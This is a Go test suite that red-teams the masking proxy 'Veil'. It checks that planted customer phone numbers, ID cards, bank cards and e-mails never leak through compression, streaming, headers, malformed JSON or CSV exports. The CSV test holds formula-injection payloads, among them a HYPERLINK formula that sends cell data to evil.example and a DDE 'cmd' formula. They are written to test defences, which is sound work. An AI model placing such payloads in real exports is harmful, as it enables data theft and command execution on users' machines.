package redteam

import (
	"bufio"
	"bytes"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"net/http"
	"net/url"
	"strings"
	"testing"
	"unicode/utf16"

	"github.com/veilproxy/veil/internal/veiltest"
	"github.com/veilproxy/veil/proxy"
)

// listJSON is the planted customers list as the upstream serves it.
func listJSON() []byte {
	b, _ := json.Marshal(map[string]any{"data": planted, "total": len(planted)})
	return b
}

// serve returns an upstream that answers every request with status, headers and body.
func serve(status int, body []byte, hdr ...string) http.HandlerFunc {
	return func(w http.ResponseWriter, r *http.Request) {
		for i := 0; i+1 < len(hdr); i += 2 {
			w.Header().Add(hdr[i], hdr[i+1])
		}
		w.WriteHeader(status)
		w.Write(body)
	}
}

// decodedJSON checks a 200 whose body, decoded from its Content-Encoding, is JSON.
func decodedJSON(t *testing.T, resp *http.Response, body []byte) {
	t.Helper()
	status(t, "status", resp.StatusCode, http.StatusOK)
	if ce := resp.Header.Values("Content-Encoding"); len(ce) > 0 {
		var err error
		if body, err = decode(body, ce); err != nil {
			t.Fatalf("decode %v: %v", ce, err)
		}
	}
	if !json.Valid(body) {
		t.Errorf("decoded body %.80q is not JSON", body)
	}
}

// case16 — compressed responses are decoded before masking; unknown codings are blocked.
func case16(t *testing.T) {
	plain := listJSON()
	for _, tt := range []struct {
		name    string
		header  []string // Content-Encoding values
		codings []string // applied, in order
		want    int
	}{
		{"gzip", []string{"gzip"}, []string{"gzip"}, 200},
		{"deflate", []string{"deflate"}, []string{"deflate"}, 200},
		{"br", []string{"br"}, []string{"br"}, 200},
		{"zstd", []string{"zstd"}, []string{"zstd"}, 200},
		{"gzip_then_br", []string{"gzip, br"}, []string{"gzip", "br"}, 200},
		{"two_headers", []string{"gzip", "br"}, []string{"gzip", "br"}, 200},
		{"upper_case", []string{"GZIP"}, []string{"gzip"}, 200},
		{"x_gzip", []string{"x-gzip"}, []string{"gzip"}, 200},
		{"gzip_identity", []string{"gzip, identity"}, []string{"gzip"}, 200},
		{"identity_gzip", []string{"identity, gzip"}, []string{"gzip"}, 200},
		{"unknown_coding", []string{"compress"}, []string{"gzip"}, 502},
		{"coding_with_params", []string{"gzip;q=1"}, []string{"gzip"}, 502},
		{"wrong_label", []string{"br"}, []string{"gzip"}, 502},
		{"gzip_unlabelled", nil, []string{"gzip"}, 502},
		{"zstd_unlabelled", nil, []string{"zstd"}, 502},
	} {
		t.Run(tt.name, func(t *testing.T) {
			var hdr []string
			for _, v := range tt.header {
				hdr = append(hdr, "Content-Encoding", v)
			}
			hdr = append(hdr, "Content-Type", "application/json")
			e := newEnv(t, veiltest.Options{Upstream: serve(200, encode(t, plain, tt.codings...), hdr...)})
			resp, body := e.as(t, "cs_agent", "GET", "/api/customers", nil, "Accept-Encoding", "identity")
			status(t, "status", resp.StatusCode, tt.want)
			if tt.want == 200 {
				var v struct{ Data []customer }
				if err := json.Unmarshal(body, &v); err != nil || len(v.Data) != len(planted) {
					t.Errorf("body %.80q: %v, want %d masked records", body, err, len(planted))
				}
			}
		})
	}
	accept := []struct{ name, accept, want string }{
		{"client_gzip_br", "gzip, br", "br"},
		{"client_star_refused", "*;q=0", ""},
		{"client_identity_refused", "identity;q=0", ""},
		{"client_gzip_refused", "gzip;q=0, br;q=0, zstd;q=0, *", ""},
		{"client_zstd", "zstd", "zstd"},
		{"client_upper_case", "GZIP", "gzip"},
	}
	big := bytes.Repeat([]byte(" "), 4<<10) // big enough to be re-encoded
	body := append(bytes.TrimSuffix(listJSON(), []byte("}")), append(big, '}')...)
	e := newEnv(t, veiltest.Options{Upstream: serve(200, encode(t, body, "gzip"), "Content-Encoding", "gzip", "Content-Type", "application/json")})
	for _, tt := range accept {
		t.Run(tt.name, func(t *testing.T) {
			resp, b := e.as(t, "cs_agent", "GET", "/api/customers", nil, "Accept-Encoding", tt.accept)
			if got := resp.Header.Get("Content-Encoding"); got != tt.want && !(tt.want == "" && got == "identity") {
				t.Errorf("Accept-Encoding %q: Content-Encoding %q, want %q", tt.accept, got, tt.want)
			}
			decodedJSON(t, resp, b)
		})
	}
	t.Run("transfer_encoding_gzip", func(t *testing.T) {
		e := newEnv(t, veiltest.Options{Upstream: hijack(func(w *bufio.ReadWriter) {
			gz := encode(t, plain, "gzip")
			fmt.Fprintf(w, "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nTransfer-Encoding: gzip, chunked\r\n\r\n%x\r\n%s\r\n0\r\n\r\n", len(gz), gz)
		})})
		resp, _ := e.as(t, "cs_agent", "GET", "/api/customers", nil)
		status(t, "status", resp.StatusCode, http.StatusBadGateway)
	})
	t.Run("error_status_gzip", func(t *testing.T) {
		rec, _ := json.Marshal(map[string]any{"error": "conflict", "record": planted[0]})
		e := newEnv(t, veiltest.Options{Upstream: serve(409, encode(t, rec, "gzip"), "Content-Encoding", "gzip", "Content-Type", "application/json")})
		resp, _ := e.as(t, "cs_agent", "GET", "/api/customers/C10001", nil)
		status(t, "status", resp.StatusCode, http.StatusConflict)
	})
}

// hijack returns an upstream that writes raw bytes to the connection and closes it.
func hijack(write func(w *bufio.ReadWriter)) http.HandlerFunc {
	return func(w http.ResponseWriter, r *http.Request) {
		c, rw, err := http.NewResponseController(w).Hijack()
		if err != nil {
			panic(err)
		}
		defer c.Close()
		write(rw)
		rw.Flush()
	}
}

// case17 — range requests are refused on policed routes.
func case17(t *testing.T) {
	e := newEnv(t, veiltest.Options{})
	for _, tt := range []struct{ name, line string }{
		{"range", "Range: bytes=0-200"},
		{"lower_case", "range: bytes=0-200"},
		{"open_ended", "Range: bytes=100-"},
		{"suffix", "Range: bytes=-50"},
		{"request_range", "Request-Range: bytes=0-200"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			rs := e.raw(t, request("GET", "/api/customers", tt.line), quiet)
			r := one(t, rs)
			if r.Status == http.StatusOK {
				up := e.sameRequest(t)
				for _, h := range []string{"Range", "Request-Range", "If-Range"} {
					if up.Header.Get(h) != "" {
						t.Errorf("upstream received %s: %s", h, up.Header.Get(h))
					}
				}
				return
			}
			e.refused(t, rs, http.StatusRequestedRangeNotSatisfiable)
		})
	}
	t.Run("if_range_stripped", func(t *testing.T) {
		rs := e.raw(t, request("GET", "/api/customers", `If-Range: "x"`), quiet)
		status(t, "status", one(t, rs).Status, http.StatusOK)
		if up := e.sameRequest(t); up.Header.Get("If-Range") != "" {
			t.Errorf("upstream received If-Range")
		}
	})
	t.Run("upstream_partial_content", func(t *testing.T) {
		b := listJSON()
		e := newEnv(t, veiltest.Options{Upstream: serve(http.StatusPartialContent, b[:len(b)/2], "Content-Type", "application/json", "Content-Range", fmt.Sprintf("bytes 0-%d/%d", len(b)/2-1, len(b)))})
		resp, _ := e.as(t, "cs_agent", "GET", "/api/customers", nil)
		status(t, "status", resp.StatusCode, http.StatusBadGateway)
	})
}

// trickle returns an upstream that writes body in pieces of n bytes, flushing each.
func trickle(body []byte, n int, hdr ...string) http.HandlerFunc {
	return func(w http.ResponseWriter, r *http.Request) {
		for i := 0; i+1 < len(hdr); i += 2 {
			w.Header().Set(hdr[i], hdr[i+1])
		}
		rc := http.NewResponseController(w)
		for len(body) > 0 {
			k := min(n, len(body))
			w.Write(body[:k])
			rc.Flush()
			body = body[k:]
		}
	}
}

// case18 — fields split across chunks are masked: the rewrite works on parsed documents.
func case18(t *testing.T) {
	for _, tt := range []struct {
		name      string
		upstream  http.Handler
		threshold int64
	}{
		{"byte_by_byte_buffered", trickle(listJSON(), 1, "Content-Type", "application/json"), 1 << 20},
		{"byte_by_byte_streamed", trickle(listJSON(), 1, "Content-Type", "application/json"), 64},
		{"seven_bytes_streamed", trickle(listJSON(), 7, "Content-Type", "application/json"), 128},
		{"gzip_split", trickle(encode(t, listJSON(), "gzip"), 3, "Content-Type", "application/json", "Content-Encoding", "gzip"), 64},
	} {
		t.Run(tt.name, func(t *testing.T) {
			e := newEnv(t, veiltest.Options{Upstream: tt.upstream, Limits: proxy.Limits{StreamThreshold: tt.threshold}})
			resp, body := e.as(t, "cs_agent", "GET", "/api/customers", nil, "Accept-Encoding", "identity")
			status(t, "status", resp.StatusCode, http.StatusOK)
			var v struct{ Data []customer }
			if err := json.Unmarshal(body, &v); err != nil || len(v.Data) != len(planted) || v.Data[0].Mobile == "" {
				t.Errorf("body %q: %v; want %d masked records", body, err, len(planted))
			}
		})
	}
}

// case19 — server-sent events (and other framed streams) are blocked on policed routes.
func case19(t *testing.T) {
	sse := []byte("event: customer\ndata: " + string(mustJSON(planted[0])) + "\n\n")
	for _, tt := range []struct {
		name, ctype string
		body        []byte
	}{
		{"event_stream", "text/event-stream", sse},
		{"event_stream_params", "text/event-stream; charset=utf-8", sse},
		{"event_stream_upper_case", "TEXT/EVENT-STREAM", sse},
		{"event_stream_as_json", "application/json", sse},
		{"ndjson", "application/x-ndjson", append(append(mustJSON(planted[0]), '\n'), mustJSON(planted[1])...)},
		{"json_seq", "application/json-seq", append(append([]byte{0x1e}, mustJSON(planted[0])...), '\n')},
		{"multipart", "multipart/mixed; boundary=b", []byte("--b\r\nContent-Type: application/json\r\n\r\n" + string(mustJSON(planted[0])) + "\r\n--b--\r\n")},
	} {
		t.Run(tt.name, func(t *testing.T) {
			e := newEnv(t, veiltest.Options{Upstream: trickle(tt.body, 16, "Content-Type", tt.ctype)})
			resp, body := e.as(t, "cs_agent", "GET", "/api/customers/C10001", nil)
			if resp.StatusCode == http.StatusOK && tt.name != "ndjson" {
				t.Errorf("status 200 (%q); want the stream blocked", body)
			}
		})
	}
}

func mustJSON(v any) []byte {
	b, err := json.Marshal(v)
	if err != nil {
		panic(err)
	}
	return b
}

// utf16le encodes s as UTF-16LE with a BOM.
func utf16le(s string) []byte {
	out := []byte{0xff, 0xfe}
	for _, u := range utf16.Encode([]rune(s)) {
		out = append(out, byte(u), byte(u>>8))
	}
	return out
}

// case20 — JSON under any label is masked; bodies Veil cannot read are blocked.
func case20(t *testing.T) {
	rec := mustJSON(planted[0])
	for _, tt := range []struct {
		name, ctype string
		body        []byte
	}{
		{"text_plain", "text/plain", rec},
		{"vnd_api", "application/vnd.api+json", rec},
		{"hal", "application/hal+json", rec},
		{"problem", "application/problem+json", rec},
		{"no_content_type", "", rec},
		{"octet_stream", "application/octet-stream", rec},
		{"text_html", "text/html", rec},
		{"javascript", "application/javascript", rec},
		{"bad_media_type", "application/json; charset", rec},
		{"labelled_csv", "text/csv", rec},
		{"bom", "application/json", append([]byte("\xef\xbb\xbf"), rec...)},
		{"utf16_charset", "application/json; charset=utf-16", utf16le(string(rec))},
		{"utf16_unlabelled", "application/json", utf16le(string(rec))},
		{"latin1_charset", "application/json; charset=iso-8859-1", rec},
	} {
		t.Run(tt.name, func(t *testing.T) {
			var hdr []string
			if tt.ctype != "" {
				hdr = []string{"Content-Type", tt.ctype}
			}
			up := serve(200, tt.body, hdr...)
			if tt.ctype == "" {
				up = func(w http.ResponseWriter, r *http.Request) {
					w.Header()["Content-Type"] = nil // no sniffing by the test server
					w.Write(tt.body)
				}
			}
			e := newEnv(t, veiltest.Options{Upstream: up})
			resp, body := e.as(t, "cs_agent", "GET", "/api/customers/C10001", nil)
			noLeakUTF16(t, body)
			if resp.StatusCode == http.StatusOK && tt.name != "labelled_csv" && !strings.HasPrefix(tt.name, "utf16") && tt.name != "bom" {
				var c customer
				if err := json.Unmarshal(body, &c); err != nil || c.ID != planted[0].ID {
					t.Errorf("body %q: %v; want the masked record", body, err)
				}
			}
			status(t, "status", resp.StatusCode, http.StatusOK, http.StatusBadGateway)
		})
	}
}

// noLeakUTF16 reads body as UTF-16 (either byte order) and checks it for secrets.
func noLeakUTF16(t *testing.T, body []byte) {
	t.Helper()
	for _, le := range []bool{true, false} {
		var us []uint16
		for i := 0; i+1 < len(body); i += 2 {
			if le {
				us = append(us, uint16(body[i])|uint16(body[i+1])<<8)
			} else {
				us = append(us, uint16(body[i])<<8|uint16(body[i+1]))
			}
		}
		if l := veiltest.Leaks([]byte(string(utf16.Decode(us))), secrets()); len(l) > 0 {
			t.Errorf("body read as UTF-16 leaks %q", l)
		}
	}
}

// case21 — JSONP: the callback parameter is stripped, and a JSONP body is blocked.
func case21(t *testing.T) {
	jsonp := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		q := r.URL.Query()
		for _, name := range []string{"callback", "Callback", "jsonp", "cb", "jsonpcallback", "_callback"} {
			if cb := q.Get(name); cb != "" {
				w.Header().Set("Content-Type", "application/javascript")
				fmt.Fprintf(w, "/**/%s(%s);", cb, mustJSON(planted[0]))
				return
			}
		}
		writeJSON(w, http.StatusOK, planted[0])
	})
	e := newEnv(t, veiltest.Options{Upstream: jsonp})
	for _, name := range []string{"callback", "Callback", "CALLBACK", "jsonp", "cb", "jsonpcallback", "_callback"} {
		t.Run(name, func(t *testing.T) {
			resp, body := e.as(t, "cs_agent", "GET", "/api/customers/C10001?"+name+"=steal", nil)
			ups := e.up.take()
			e.pol.take()
			if resp.StatusCode == http.StatusOK {
				var c customer
				if err := json.Unmarshal(body, &c); err != nil {
					t.Errorf("200 with a body that is not JSON: %q", body)
				}
				return
			}
			status(t, "status", resp.StatusCode, http.StatusBadGateway)
			if len(ups) == 1 && strings.Contains(strings.ToLower(ups[0].RawQuery), "callback=") && name != "jsonpcallback" && name != "_callback" {
				t.Errorf("upstream received %q", ups[0].RawQuery)
			}
		})
	}
}

// case22 — every status is masked, and so are the headers an upstream echoes a record into.
func case22(t *testing.T) {
	rec := mustJSON(map[string]any{"error": "conflict with " + planted[0].Mobile, "record": planted[0]})
	for _, code := range []int{400, 401, 403, 404, 409, 422, 429, 500, 502, 503} {
		t.Run(fmt.Sprint(code), func(t *testing.T) {
			e := newEnv(t, veiltest.Options{Upstream: serve(code, rec, "Content-Type", "application/json")})
			resp, body := e.as(t, "cs_agent", "GET", "/api/customers/C10001", nil)
			if resp.StatusCode != code && resp.StatusCode != http.StatusBadGateway {
				t.Errorf("status %d, want %d (masked) or 502", resp.StatusCode, code)
			}
			if resp.StatusCode == code && !json.Valid(body) {
				t.Errorf("body %q is not JSON", body)
			}
		})
	}
	t.Run("html_error_page", func(t *testing.T) {
		e := newEnv(t, veiltest.Options{Upstream: serve(500, []byte("<html><body>customer "+planted[0].Mobile+" "+planted[0].Name+"</body></html>"), "Content-Type", "text/html")})
		resp, _ := e.as(t, "cs_agent", "GET", "/api/customers/C10001", nil)
		status(t, "status", resp.StatusCode, http.StatusBadGateway)
	})
	c := planted[0]
	for _, tt := range []struct{ name, header, value string }{
		{"location", "Location", "/api/customers?mobile=" + c.Mobile},
		{"location_percent_encoded", "Location", "/api/customers?email=" + url.QueryEscape(c.Email) + "&m=%31%33%38%31%32%33%34%35%36%37%30"},
		{"custom_header", "X-Customer-Phone", c.Mobile},
		{"set_cookie", "Set-Cookie", "last_email=" + c.Email + "; Path=/"},
		{"content_disposition", "Content-Disposition", `attachment; filename="` + c.IDCard + `.json"`},
		{"link", "Link", "</api/customers?card=" + c.BankCard + `>; rel="next"`},
		{"warning", "Warning", `199 - "lookup ` + c.Mobile + `"`},
	} {
		t.Run("header_"+tt.name, func(t *testing.T) {
			e := newEnv(t, veiltest.Options{Upstream: serve(200, mustJSON(c), "Content-Type", "application/json", tt.header, tt.value)})
			resp, _ := e.as(t, "cs_agent", "GET", "/api/customers/C10001", nil)
			status(t, "status", resp.StatusCode, http.StatusOK, http.StatusBadGateway)
		})
	}
	t.Run("redirect", func(t *testing.T) {
		e := newEnv(t, veiltest.Options{Upstream: serve(http.StatusFound, mustJSON(c), "Content-Type", "application/json", "Location", "/api/customers?mobile="+c.Mobile)})
		rs := e.raw(t, request("GET", "/api/customers/C10001"), quiet)
		status(t, "status", one(t, rs).Status, http.StatusFound, http.StatusBadGateway)
	})
	t.Run("early_hints", func(t *testing.T) {
		e := newEnv(t, veiltest.Options{Upstream: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			w.Header().Set("Link", "</api/customers?mobile="+c.Mobile+">; rel=preload")
			w.Header().Set("X-Customer-Name", c.Name)
			w.WriteHeader(http.StatusEarlyHints)
			w.Header().Del("Link")
			w.Header().Del("X-Customer-Name")
			writeJSON(w, http.StatusOK, c)
		})})
		rs := e.raw(t, request("GET", "/api/customers/C10001"), quiet)
		for _, r := range rs {
			if r.Status < 200 {
				t.Errorf("Veil forwarded an upstream %d with headers %v", r.Status, r.Header)
			}
		}
	})
	for _, tt := range []struct {
		name      string
		threshold int64
	}{{"trailers", 0}, {"trailers_streamed", 64}} {
		t.Run(tt.name, func(t *testing.T) {
			e := newEnv(t, veiltest.Options{Limits: proxy.Limits{StreamThreshold: tt.threshold}, Upstream: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
				w.Header().Set("Trailer", "X-Record-Phone")
				w.Header().Set("Content-Type", "application/json")
				w.Write(listJSON())
				w.Header().Set("X-Record-Phone", c.Mobile)
				w.Header().Set(http.TrailerPrefix+"X-Record-Name", c.Name)
			})})
			req, _ := http.NewRequest("GET", e.Veil.URL+"/api/customers", nil)
			req.Header.Set("X-Veil-User", "u1")
			req.Header.Set("X-Veil-Roles", "cs_agent")
			req.Header.Set("TE", "trailers")
			resp, err := e.Veil.Client().Do(req)
			if err != nil {
				t.Fatal(err)
			}
			body := readAll(t, resp)
			noLeak(t, resp.Header, body)
			noLeak(t, resp.Trailer, nil)
			status(t, "status", resp.StatusCode, http.StatusOK)
		})
	}
}

func readAll(t *testing.T, resp *http.Response) []byte {
	t.Helper()
	defer resp.Body.Close()
	var buf bytes.Buffer
	if _, err := buf.ReadFrom(resp.Body); err != nil {
		t.Logf("body read: %v", err)
	}
	return buf.Bytes()
}

// case23 — non-standard JSON from legacy upstreams is blocked; what any parser would read as
// a key is masked.
func case23(t *testing.T) {
	c := planted[0]
	blocked := []struct{ name, body string }{
		{"line_comment", `{"id":"C10001", // note` + "\n" + `"mobile":"` + c.Mobile + `"}`},
		{"block_comment", `{"id":"C10001", /* x */ "mobile":"` + c.Mobile + `"}`},
		{"trailing_comma_object", `{"id":"C10001","mobile":"` + c.Mobile + `",}`},
		{"trailing_comma_array", `[{"id":"C10001","mobile":"` + c.Mobile + `"},]`},
		{"nan", `{"id":"C10001","score":NaN,"mobile":"` + c.Mobile + `"}`},
		{"nan_nested_array", `{"id":"C10001","scores":[[1,[NaN]]],"mobile":"` + c.Mobile + `"}`},
		{"infinity", `{"id":"C10001","score":-Infinity,"mobile":"` + c.Mobile + `"}`},
		{"xssi_guard", ")]}',\n" + `{"id":"C10001","mobile":"` + c.Mobile + `"}`},
		{"while_guard", `while(1);{"id":"C10001","mobile":"` + c.Mobile + `"}`},
		{"trailing_garbage", `{"id":"C10001","name":"x"}` + `"` + c.Name + `"`},
		{"two_documents", `{"id":"C10001"}{"mobile":"` + c.Mobile + `","name":"` + c.Name + `"}`},
		{"single_quotes", `{'id':'C10001','name':'` + c.Name + `'}`},
		{"unquoted_keys", `{id:"C10001",name:"` + c.Name + `"}`},
		{"hex_number", `{"id":"C10001","n":0x1F,"name":"` + c.Name + `"}`},
		{"leading_zero", `{"id":"C10001","n":01,"name":"` + c.Name + `"}`},
		{"raw_control_in_string", "{\"id\":\"C10001\",\"name\":\"\x01" + c.Name + "\"}"},
		{"invalid_utf8", "{\"id\":\"C10001\",\"note\":\"\xff\",\"name\":\"" + c.Name + "\"}"},
		{"unterminated", `{"id":"C10001","name":"` + c.Name},
	}
	for _, tt := range blocked {
		t.Run(tt.name, func(t *testing.T) {
			e := newEnv(t, veiltest.Options{Upstream: serve(200, []byte(tt.body), "Content-Type", "application/json")})
			resp, _ := e.as(t, "cs_agent", "GET", "/api/customers/C10001", nil)
			status(t, "status", resp.StatusCode, http.StatusBadGateway)
		})
	}
	maskedDocs := []struct{ name, body string }{
		{"duplicate_keys", `{"id":"C10001","name":"x","name":"` + c.Name + `","mobile":"1","mobile":"` + c.Mobile + `"}`},
		{"duplicate_keys_other_case", `{"id":"C10001","Name":"x","NAME":"` + c.Name + `","address":"","ADDRESS":"` + c.Address + `"}`},
		{"escaped_key", `{"id":"C10001","n\u0061me":"` + c.Name + `","\u0061ddress":"` + c.Address + `"}`},
		{"escaped_value", `{"id":"C10001","name":"` + jsonEscapeAll(c.Name) + `","note":"` + jsonEscapeAll(c.Mobile) + `"}`},
		{"proto_key", `{"id":"C10001","__proto__":{"name":"` + c.Name + `","address":"` + c.Address + `"}}`},
		{"constructor_prototype", `{"id":"C10001","constructor":{"prototype":{"name":"` + c.Name + `"}}}`},
		{"nul_in_key", `{"id":"C10001","name\u0000":"` + c.Name + `","address\u0000x":"` + c.Address + `"}`},
		{"nul_before_key", `{"id":"C10001","\u0000name":"` + c.Name + `"}`},
		{"lone_surrogate_value", `{"id":"C10001","note":"\ud800","name":"` + c.Name + `"}`},
		{"huge_number", `{"id":"C10001","n":1e999999,"name":"` + c.Name + `"}`},
		{"whitespace_everywhere", " \t\r\n{ \"id\" : \"C10001\" ,\n\"name\"\t:\r\"" + c.Name + "\" } \n"},
	}
	for _, tt := range maskedDocs {
		t.Run(tt.name, func(t *testing.T) {
			e := newEnv(t, veiltest.Options{Upstream: serve(200, []byte(tt.body), "Content-Type", "application/json")})
			resp, body := e.as(t, "cs_agent", "GET", "/api/customers/C10001", nil)
			status(t, "status", resp.StatusCode, http.StatusOK, http.StatusBadGateway)
			if resp.StatusCode == http.StatusOK {
				truncatedKeys(t, body)
			}
		})
	}
}

// truncatedKeys checks a masked body the way a parser that cuts keys at NUL would read it
// (libraries that keep keys as C strings): no secret may appear under such a key either.
func truncatedKeys(t *testing.T, body []byte) {
	t.Helper()
	var m map[string]any
	if json.Unmarshal(body, &m) != nil {
		return
	}
	for k, v := range m {
		if i := strings.IndexByte(k, 0); i >= 0 {
			if s, ok := v.(string); ok {
				if l := veiltest.Leaks([]byte(s), secrets()); len(l) > 0 {
					t.Errorf("key %q (read as %q) holds %q", k, k[:i], l)
				}
			}
		}
	}
}

// jsonEscapeAll writes every rune of s as a \u escape.
func jsonEscapeAll(s string) string {
	var b strings.Builder
	for _, u := range utf16.Encode([]rune(s)) {
		fmt.Fprintf(&b, `\u%04x`, u)
	}
	return b.String()
}

// case24 — a document nested 100 000 deep is a clean error, and Veil keeps serving.
func case24(t *testing.T) {
	const depth = 100000
	for _, tt := range []struct {
		name      string
		body      string
		threshold int64
	}{
		{"arrays", strings.Repeat("[", depth) + strings.Repeat("]", depth), 0},
		{"objects", strings.Repeat(`{"a":`, depth) + "1" + strings.Repeat("}", depth), 0},
		{"inside_a_record", `{"data":[{"id":"C1","x":` + strings.Repeat("[", depth) + strings.Repeat("]", depth) + `}]}`, 0},
		{"streamed", `{"data":[{"id":"C1","x":` + strings.Repeat("[", depth) + strings.Repeat("]", depth) + `}]}`, 1024},
		{"unclosed", strings.Repeat("[", depth), 0},
	} {
		t.Run(tt.name, func(t *testing.T) {
			e := newEnv(t, veiltest.Options{Upstream: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
				if r.URL.Path == "/api/products" {
					crm{}.ServeHTTP(w, r)
					return
				}
				w.Header().Set("Content-Type", "application/json")
				w.Write([]byte(tt.body))
			}), Limits: proxy.Limits{StreamThreshold: tt.threshold}})
			resp, _ := e.as(t, "cs_agent", "GET", "/api/customers", nil)
			if resp.StatusCode != http.StatusBadGateway {
				t.Errorf("status %d, want 502", resp.StatusCode)
			}
			resp, _ = e.as(t, "cs_agent", "GET", "/api/products", nil)
			status(t, "next request", resp.StatusCode, http.StatusOK)
		})
	}
}

// case25 — sensitive values inside strings and free text are found by the detectors.
func case25(t *testing.T) {
	c := planted[0]
	nested, _ := json.Marshal(map[string]string{"phone": c.Mobile, "card": c.BankCard})
	twice, _ := json.Marshal(string(nested))
	for _, tt := range []struct{ name, note string }{
		{"json_in_string", string(nested)},
		{"json_in_json_in_string", string(twice)},
		{"free_text", "客户说手机号是" + c.Mobile + "，身份证" + c.IDCard + "，邮箱" + c.Email},
		{"spaced", "call " + c.Mobile[:3] + " " + c.Mobile[3:7] + " " + c.Mobile[7:]},
		{"dashed", "call " + c.Mobile[:3] + "-" + c.Mobile[3:7] + "-" + c.Mobile[7:]},
		{"country_code", "call +86" + c.Mobile + " or +86 " + c.Mobile},
		{"fullwidth_digits", "手机号：" + fullwidth(c.Mobile)},
		{"card_spaced", "卡号 " + c.BankCard[:4] + " " + c.BankCard[4:8] + " " + c.BankCard[8:12] + " " + c.BankCard[12:16] + " " + c.BankCard[16:]},
		{"email_upper_case", "mail " + strings.ToUpper(c.Email)},
	} {
		t.Run(tt.name, func(t *testing.T) {
			note := tt.note
			rec := map[string]any{"id": "C10001", "note": note, "chat_log": []map[string]string{{"text": note}}}
			e := newEnv(t, veiltest.Options{Upstream: serve(200, mustJSON(rec), "Content-Type", "application/json")})
			resp, body := e.as(t, "cs_agent", "GET", "/api/customers/C10001", nil)
			status(t, "status", resp.StatusCode, http.StatusOK)
			noFullwidthLeak(t, body)
			if strings.Contains(strings.ToLower(string(body)), strings.ToLower(c.Email)) {
				t.Errorf("body holds the e-mail address in some case: %s", body)
			}
		})
	}
	t.Run("value_as_key", func(t *testing.T) {
		rec := map[string]any{"id": "C10001", "by_phone": map[string]any{c.Mobile: map[string]string{"level": "VIP"}}}
		e := newEnv(t, veiltest.Options{Upstream: serve(200, mustJSON(rec), "Content-Type", "application/json")})
		resp, _ := e.as(t, "cs_agent", "GET", "/api/customers/C10001", nil)
		status(t, "status", resp.StatusCode, http.StatusOK, http.StatusBadGateway)
	})
	t.Run("csv_cell", func(t *testing.T) {
		csvBody := "id,name,note\nC10001,x,\"call " + c.Mobile + ", or mail " + c.Email + "\"\n"
		e := newEnv(t, veiltest.Options{Upstream: serve(200, []byte(csvBody), "Content-Type", "text/csv")})
		resp, _ := e.as(t, "ops_manager", "GET", "/api/customers/export", nil)
		status(t, "status", resp.StatusCode, http.StatusOK)
	})
}

// fullwidth writes the ASCII digits of s as full-width digits (U+FF10…), as Chinese input
// methods often do.
func fullwidth(s string) string {
	return strings.Map(func(r rune) rune {
		if r >= '0' && r <= '9' {
			return r - '0' + '０'
		}
		return r
	}, s)
}

// noFullwidthLeak reads full-width digits as ASCII and checks again.
func noFullwidthLeak(t *testing.T, body []byte) {
	t.Helper()
	var v any
	s := string(body)
	if json.Unmarshal(body, &v) == nil {
		s = fmt.Sprint(v)
	}
	ascii := strings.Map(func(r rune) rune {
		if r >= '０' && r <= '９' {
			return r - '０' + '0'
		}
		return r
	}, s)
	if ascii != s {
		if l := veiltest.Leaks([]byte(ascii), secrets()); len(l) > 0 {
			t.Errorf("full-width digits leak %q", l)
		}
	}
}

// case26 — keys match case-insensitively.
func case26(t *testing.T) {
	c := planted[0]
	body := `{"id":"C10001","Mobile":"` + c.Mobile + `","ID_CARD":"` + c.IDCard + `","Bank_Card":"` + c.BankCard +
		`","EMAIL":"` + c.Email + `","NaMe":"` + c.Name + `","Address":"` + c.Address + `","contact":{"MOBILE":"` + c.Mobile + `","Name":"` + c.Name + `"}}`
	e := newEnv(t, veiltest.Options{Upstream: serve(200, []byte(body), "Content-Type", "application/json")})
	resp, _ := e.as(t, "cs_agent", "GET", "/api/customers/C10001", nil)
	status(t, "status", resp.StatusCode, http.StatusOK)
	t.Run("csv_header_case", func(t *testing.T) {
		csvBody := "ID,NAME,MOBILE,Id_Card,Bank_Card,Email,ADDRESS\nC10001," + c.Name + "," + c.Mobile + "," + c.IDCard + "," + c.BankCard + "," + c.Email + "," + c.Address + "\n"
		e := newEnv(t, veiltest.Options{Upstream: serve(200, []byte(csvBody), "Content-Type", "text/csv")})
		resp, _ := e.as(t, "ops_manager", "GET", "/api/customers/export", nil)
		status(t, "status", resp.StatusCode, http.StatusOK)
	})
}

// case27 — CSV exports: formula cells neutralized, quoted cells parsed with a real reader.
func case27(t *testing.T) {
	c := planted[0]
	var buf bytes.Buffer
	w := csv.NewWriter(&buf)
	w.Write([]string{"id", "name", "mobile", "note", "level"})
	cells := []string{"=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", `=HYPERLINK("http://evil.example/?"&A2,"x")`, "=cmd|' /C calc'!A0", "＝1+1"}
	for i, cell := range cells {
		w.Write([]string{fmt.Sprintf("C%05d", 10001+i), c.Name, c.Mobile, cell, cell})
	}
	w.Write([]string{"C20000", "x, \"quoted\"\n" + c.Name, c.Mobile[:5] + "\n" + c.Mobile[5:], "line one\nline two, " + c.Mobile, "VIP"})
	w.Flush()
	e := newEnv(t, veiltest.Options{Upstream: serve(200, buf.Bytes(), "Content-Type", "text/csv")})
	resp, body := e.as(t, "ops_manager", "GET", "/api/customers/export", nil)
	status(t, "status", resp.StatusCode, http.StatusOK)
	rows, err := csv.NewReader(bytes.NewReader(body)).ReadAll()
	if err != nil {
		t.Fatalf("export is not CSV: %v", err)
	}
	if len(rows) != len(cells)+2 {
		t.Errorf("export has %d rows, want %d", len(rows), len(cells)+2)
	}
	for _, row := range rows[1:] {
		for _, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("cell %q starts with a formula character", cell)
			}
		}
	}
}
